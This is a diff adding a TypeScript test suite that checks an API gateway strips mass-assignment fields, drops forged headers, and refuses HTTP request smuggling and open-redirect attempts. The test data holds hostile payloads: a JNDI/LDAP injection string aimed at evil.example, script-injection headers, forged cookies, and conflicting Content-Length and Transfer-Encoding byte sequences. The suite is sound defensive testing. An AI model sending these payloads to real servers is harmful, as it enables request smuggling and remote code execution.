@@ -1,0 +1,196 @@
+import { connect } from 'node:net'
+import { endpoints } from '@bourse/contracts/api'
+import { type Endpoint, fillPath, shapeOf } from '@bourse/contracts/kit'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { exampleInput } from '#web/reference'
+import { type Rig, startRig } from '#rig'
+
+let rig: Rig
+let bearer = ''
+beforeAll(async () => {
+  rig = await startRig({
+    extensions: true,
+    limits: { callsPerMinute: 1_000_000, loginsPerMinute: 1_000_000, codesPerHour: 1_000_000 },
+  })
+  bearer = await rig.signIn()
+})
+afterAll(() => rig.close())
+
+/** What somebody would like to say of himself or of the price. */
+const EXTRA = {
+  user_id: 1,
+  uid: 1,
+  member: 1,
+  account_id: 1,
+  role: 'admin',
+  is_admin: 1,
+  vip: 9,
+  balance: '1000000',
+  fee_rate: '0',
+  open_price: '1',
+  settle_price: '1',
+  outcome: 'win',
+}
+const namesOf = (endpoint: Endpoint): string[] => {
+  const shape = shapeOf(endpoint.input)
+  return shape.kind === 'record' ? shape.fields.map(({ wire }) => wire) : []
+}
+const calls = endpoints.filter(({ local, upload }) => local !== true && upload !== true)
+
+async function send(endpoint: Endpoint, fields: Record<string, unknown>): Promise<number> {
+  const { path, rest } = fillPath(endpoint.path, fields)
+  const isRead = endpoint.method === 'GET'
+  const response = await fetch(
+    `${rig.url}/api${path}${isRead ? `?${new URLSearchParams(rest as Record<string, string>)}` : ''}`,
+    {
+      method: endpoint.method,
+      headers: { authorization: bearer, ...(isRead ? {} : { 'content-type': 'application/json' }) },
+      ...(isRead ? {} : { body: JSON.stringify(rest) }),
+    },
+  )
+  await response.arrayBuffer()
+  return response.status
+}
+
+describe('threat 07: a field that nobody asked for', () => {
+  it.each(calls.map((endpoint) => [endpoint.name, endpoint] as const))(
+    'never gets past %s',
+    async (_name, endpoint) => {
+      const before = rig.upstream.seen.length
+      const own = new Set([...namesOf(endpoint), 'lang', 'page', 'limit'])
+      expect(await send(endpoint, { ...EXTRA, ...exampleInput(endpoint) })).not.toBe(400)
+      const asked = rig.upstream.seen.slice(before)
+      expect(asked.length).toBeGreaterThan(0)
+      const sent = asked.flatMap(({ query, body }) => [
+        ...Object.keys(query),
+        ...Object.keys((body ?? {}) as object),
+      ])
+      expect(sent.map((name) => name.replace(/\[.*$/, '')).filter((name) => !own.has(name))).toEqual([])
+    },
+  )
+})
+
+const HOSTILE: readonly [string, string][] = [
+  ['X-Forwarded-For', '10.0.0.1'],
+  ['X-Forwarded-Host', 'evil.example'],
+  ['X-Forwarded-Proto', 'https'],
+  ['X-Real-IP', '10.0.0.1'],
+  ['Forwarded', 'for=10.0.0.1;host=evil.example'],
+  ['X-User-Id', '1'],
+  ['X-Admin', 'true'],
+  ['X-Original-URL', '/admin'],
+  ['X-Rewrite-URL', '/admin'],
+  ['X-HTTP-Method-Override', 'DELETE'],
+  ['X-Method-Override', 'PUT'],
+  ['Connection', 'keep-alive, authorization, x-request-id'],
+  ['Keep-Alive', 'timeout=9999'],
+  ['TE', 'trailers, deflate'],
+  ['Trailer', 'authorization'],
+  ['Via', '1.1 evil'],
+  ['Range', 'bytes=0-0'],
+  ['If-None-Match', '*'],
+  ['If-Modified-Since', 'Thu, 01 Jan 2099 00:00:00 GMT'],
+  ['Referer', 'http://evil.example/'],
+  ['User-Agent', '${jndi:ldap://evil.example}'],
+  ['Proxy-Authorization', 'Basic eA=='],
+  ['Cookie', 'php=stolen; sid=forged'],
+  ['Accept-Language', 'en\u00e9, zz;q=1, <script>'],
+  ['Accept-Encoding', 'gzip, br'],
+  ['X-Request-Id', '<script>alert(1)</script>'],
+  ['Idempotency-Key', 'not for a read'],
+  ['traceparent', '00-0-0-00'],
+]
+const ALLOWED = [
+  'accept',
+  'accept-encoding',
+  'accept-language',
+  'authorization',
+  'connection',
+  'host',
+  'x-request-id',
+]
+
+describe('threat 13: a header that a caller makes up', () => {
+  it('is dropped: the upstream hears a fixed list, written by us', async () => {
+    const before = rig.upstream.seen.length
+    const lines = HOSTILE.map(([name, value]) => `${name}: ${value}`)
+    const head = ['GET /api/user/info HTTP/1.1', 'Host: x', `Authorization: ${bearer}`, ...lines]
+    const answer = await raw(`${head.join('\r\n')}\r\n\r\n`)
+    expect(answer).toMatch(/^HTTP\/1\.1 200 /)
+    const [seen] = rig.upstream.seen.slice(before)
+    expect(Object.keys(seen?.headers ?? {}).filter((name) => !ALLOWED.includes(name))).toEqual([])
+    const told = JSON.stringify(seen?.headers)
+    for (const word of ['evil', 'stolen', 'forged', 'script', '10.0.0.1', 'jndi', 'gzip'])
+      expect(told).not.toContain(word)
+    expect(seen?.headers['authorization']).toBe('token-of-42')
+    expect(seen?.headers['accept-language']).toBe('en')
+  })
+})
+
+const smuggled: readonly [claim: string, bytes: string][] = [
+  ['a length and chunks', 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'],
+  ['two lengths', 'Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcd'],
+  ['two lengths in one', 'Content-Length: 4, 5\r\n\r\nabcd'],
+  ['a length that is none', 'Content-Length: +4\r\n\r\nabcd'],
+  ['chunks by another name', 'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n'],
+  ['chunks and then something', 'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n'],
+  ['chunks twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n'],
+  ['a space before the colon', 'Content-Length : 4\r\n\r\nabcd'],
+  ['a folded line', 'X-A: b\r\n c: d\r\nContent-Length: 0\r\n\r\n'],
+  ['a bare line feed', 'X-A: b\nContent-Length: 0\r\n\r\n'],
+  ['a bare carriage return', 'X-A: b\rX-C: d\r\n\r\n'],
+  ['a name with a blank in it', 'X A: b\r\n\r\n'],
+  ['a zero byte', 'X-A: b\u0000c\r\n\r\n'],
+  ['a chunk of no size', 'Transfer-Encoding: chunked\r\n\r\nz\r\n\r\n'],
+  ['a chunk of too large a size', 'Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nx'],
+]
+
+describe('threat 14: a request that two readers could read differently', () => {
+  it.each(smuggled)('is refused and hung up on: %s', async (_claim, rest) => {
+    const before = rig.upstream.seen.length
+    const head =
+      'POST /api/user/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n'
+    const answer = await raw(`${head}${rest}`)
+    expect(answer === '' || /^HTTP\/1\.1 400 /.test(answer)).toBe(true)
+    expect(answer.match(/HTTP\/1\.1 \d/g)?.length ?? 0).toBeLessThanOrEqual(1)
+    expect(rig.upstream.seen).toHaveLength(before)
+  })
+
+  it.each([
+    ['without a host', 'GET /api/menu HTTP/1.1\r\n\r\n'],
+    ['with two hosts', 'GET /api/menu HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n'],
+    ['of another protocol', 'GET /api/menu HTTP/9.9\r\nHost: a\r\n\r\n'],
+    ['that tunnels', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'],
+  ])('is refused: one %s', async (_claim, bytes) => {
+    const before = rig.upstream.seen.length
+    expect(await raw(bytes, true)).not.toMatch(/^HTTP\/1\.1 [23]/)
+    expect(rig.upstream.seen).toHaveLength(before)
+  })
+})
+
+describe('threat 15: an address that leads away', () => {
+  it('is never made of what the caller says', async () => {
+    for (const target of ['/', '/h5', '/docs', '/?next=//evil.example', '/docs?url=https://evil.example']) {
+      const answer = await raw(
+        `GET ${target} HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\nConnection: close\r\n\r\n`,
+        true,
+      )
+      expect(answer).not.toContain('evil')
+      expect(/location: (.*)\r/i.exec(answer)?.[1] ?? '/').toMatch(/^\/[a-z0-9/]*$/)
+    }
+  })
+})
+
+/** Bytes as they are written here; the answer up to the end of the connection, or of its first head. */
+function raw(bytes: string, whole = false): Promise<string> {
+  return new Promise((resolve) => {
+    const socket = connect(Number(new URL(rig.url).port), '127.0.0.1', () => socket.write(bytes))
+    let answer = ''
+    socket.on('data', (chunk) => {
+      answer += chunk.toString()
+      if (!whole && answer.startsWith('HTTP/1.1 200')) socket.destroy()
+    })
+    socket.on('error', () => resolve(answer))
+    socket.on('close', () => resolve(answer))
+  })
+}
